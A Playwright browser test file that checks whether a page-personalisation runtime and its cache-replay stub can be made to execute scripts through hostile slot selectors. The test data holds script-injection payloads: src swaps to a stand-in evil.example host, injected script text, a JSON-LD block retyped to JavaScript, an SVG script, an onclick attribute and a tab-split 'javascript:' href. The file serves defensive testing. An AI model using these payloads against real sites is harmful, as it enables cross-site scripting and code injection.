"""A slot whose selector reaches a <script> never runs code: not on a first view (the
runtime applies the worker's decision) and not on a repeat view (the stub replays
cached operations as the parser adds each element, before a parser-inserted script
runs). Three forms: `script[src=...]` given a new `src`, `script#id` given `text`, and a
JSON-LD block given `attrs: {type: "text/javascript"}` (with a `src` or a `text`); an
SVG <script> too. The page's own scripts run as written and the JSON-LD keeps its type.

The artifact is built from the demo ruleset with the hostile slots put straight into
the model, bypassing the compiler; the cached operations of the repeat view are
rewritten in localStorage, so the stub's own check is what holds, not the runtime's
filtering before it caches.
"""

from __future__ import annotations

import json
import re
import urllib.request
from typing import Any

from playwright.sync_api import expect

from infra.local.devserver import DevServer
from tests.browser._support import (
    DESKTOP,
    RecordingApi,
    debug,
    demo_ruleset_data,
    encode_ruleset_data,
    fixed_experience,
    seed_returning_visitor,
    serve_ruleset,
    wait_for_decision,
)

EVIL = "https://evil.example"
JSON_LD = '{"@context": "https://schema.org", "@type": "Product", "name": "Organic Tee"}'
# The page's own scripts, which the hostile slots aim at (the demo's head already has
# <script src="/shop.js" defer>).
PAGE_SCRIPTS = (
    f'<script type="application/ld+json" id="ld">{JSON_LD}</script>\n'
    '<script id="cfg">window.__cfgRan = (window.__cfgRan || 0) + 1;</script>\n'
    '<svg width="1" height="1"><script id="svgs">window.__svgRan = 1;</script></svg>\n'
)
SAFE_HERO = "Safe hero"


def _hostile_artifact() -> bytes:
    data = demo_ruleset_data()
    hostile = {
        "x_src": ('script[src="/shop.js"]', {"attrs": {"src": f"{EVIL}/src.js"}}),
        "x_text": ("script#cfg", {"text": "window.__pwned = 'script#id text'"}),
        # type first, then a src or a text: a JSON-LD block that never ran would run now.
        "x_ld": (
            'script[type="application/ld+json"]',
            {"attrs": {"type": "text/javascript", "src": f"{EVIL}/ld.js"}},
        ),
        "x_ld_text": ("#ld", {"text": "window.__pwned = 'json-ld text'"}),
        "x_svg": ("svg script", {"text": "window.__pwned = 'svg script'"}),
    }
    for slot, (selector, _) in hostile.items():
        data["slots"][slot] = {"selector": selector, "hide_until_decided": False}
    data["experiences"] = [
        fixed_experience("safe-hero", "hero", {"text": SAFE_HERO}),
        *(fixed_experience(f"e-{slot}", slot, content) for slot, (_, content) in hostile.items()),
    ]
    return encode_ruleset_data(data)


# The same attacks as cached operations ({s: selector, h: html, a: attrs}), as a
# tampered cache or a runtime bug would leave them for the stub.
HOSTILE_OPS = [
    {"slot": "hero", "s": "#hero h1", "h": "Cached hero"},
    {"slot": "x_src", "s": 'script[src="/shop.js"]', "a": {"src": f"{EVIL}/src.js"}},
    {"slot": "x_text", "s": "script#cfg", "h": "window.__pwned = 'script#id text'"},
    {
        "slot": "x_ld",
        "s": 'script[type="application/ld+json"]',
        "a": {"type": "text/javascript", "src": f"{EVIL}/ld.js"},
        "h": "window.__pwned = 'json-ld text'",
    },
    {"slot": "x_svg", "s": "svg script", "h": "window.__pwned = 'svg script'"},
    {"slot": "promo", "s": "[data-perso-slot=promo]", "a": {"onclick": "window.__pwned = 1"}},
    {"slot": "cta", "s": "#cta", "a": {"href": "java\tscript:window.__pwned = 'href'"}},
]

# What the page showed when its DOM was ready (the stub's work, before the worker).
AT_DCL = """
document.addEventListener("DOMContentLoaded", () => {
  window.__dclHero = document.querySelector("#hero h1").textContent;
});
"""


def _hostile_page(dev_server: DevServer) -> str:
    """The demo home page (with its snippet) plus the scripts the slots aim at."""
    with urllib.request.urlopen(dev_server.url + "/", timeout=10) as answer:
        html = answer.read().decode("utf-8")
    assert "</body>" in html and 'src="/shop.js"' in html
    return html.replace("</body>", PAGE_SCRIPTS + "</body>")


def _setup(new_context: Any, dev_server: DevServer) -> tuple[Any, list[str], str]:
    context = new_context(**DESKTOP, locale="en-US")
    seed_returning_visitor(context)
    serve_ruleset(context, _hostile_artifact())
    evil: list[str] = []

    def fulfil_evil(route: Any) -> None:
        evil.append(route.request.url)
        route.fulfill(
            status=200,
            content_type="text/javascript",
            body=f"window.__pwned = {json.dumps(route.request.url)};",
        )

    context.route(re.compile(r"^https?://evil\.example/"), fulfil_evil)
    page_url = dev_server.url + "/hostile.html"
    body = _hostile_page(dev_server)
    context.route(
        page_url,
        lambda route: route.fulfill(
            status=200,
            content_type="text/html; charset=utf-8",
            headers={"Cache-Control": "no-store"},
            body=body,
        ),
    )
    return context, evil, page_url


def _assert_nothing_ran(page: Any, evil: list[str]) -> None:
    page.wait_for_timeout(1_000)  # time for a swapped src to load and run
    assert page.evaluate("window.__pwned") is None
    assert evil == []
    # The page's own scripts ran once, as written, and the JSON-LD is still data.
    assert page.evaluate("window.__cfgRan") == 1
    assert page.evaluate("window.__svgRan") == 1
    assert page.locator("#ld").get_attribute("type") == "application/ld+json"
    assert page.locator("#ld").text_content() == JSON_LD
    assert page.locator("script#cfg").text_content() == (
        "window.__cfgRan = (window.__cfgRan || 0) + 1;"
    )
    assert page.locator('script[src="/shop.js"]').count() == 1
    assert page.locator("#cta").get_attribute("href") == "/product.html?id=sneaker-01"
    assert page.locator("[data-perso-slot=promo]").get_attribute("onclick") is None


def test_script_slots_never_run_on_a_first_view(
    new_context: Any, dev_server: DevServer, api: RecordingApi
) -> None:
    # Given a consenting visitor with nothing cached, and a ruleset whose slots aim at
    # the page's scripts (a src swap, a text, a JSON-LD turned into JavaScript, SVG)
    context, evil, page_url = _setup(new_context, dev_server)
    page = context.new_page()

    # When the runtime applies the worker's decision
    page.goto(page_url)
    record = wait_for_decision(page)
    assert record["instant_applied"] is False
    expect(page.locator("#hero h1")).to_have_text(SAFE_HERO)  # the decision was applied

    # Then no script ran and none was fetched
    _assert_nothing_ran(page, evil)


def test_script_slots_never_run_on_a_repeat_view(
    new_context: Any, dev_server: DevServer, api: RecordingApi
) -> None:
    # Given a consenting visitor whose device cached this page's decisions, and those
    # cached operations aimed at the page's scripts
    context, evil, page_url = _setup(new_context, dev_server)
    context.add_init_script(AT_DCL)
    page = context.new_page()
    page.goto(page_url)
    wait_for_decision(page)
    page.wait_for_function("() => !!localStorage.getItem('perso:demo-shop:d')")
    page.evaluate(
        """(ops) => {
          const k = 'perso:demo-shop:d';
          const cache = JSON.parse(localStorage.getItem(k));
          for (const list of Object.values(cache.e)) for (const e of list) e.o = ops;
          localStorage.setItem(k, JSON.stringify(cache));
        }""",
        HOSTILE_OPS,
    )

    # When the page is viewed again (the stub replays them as the parser adds elements)
    page.goto(page_url)
    wait_for_decision(page)

    # Then the cache was used (the hero was there when the DOM was ready) ...
    assert debug(page)["instant_applied"] is True
    assert page.evaluate("window.__dclHero") == "Cached hero"
    # ... and still no script ran and none was fetched
    _assert_nothing_ran(page, evil)
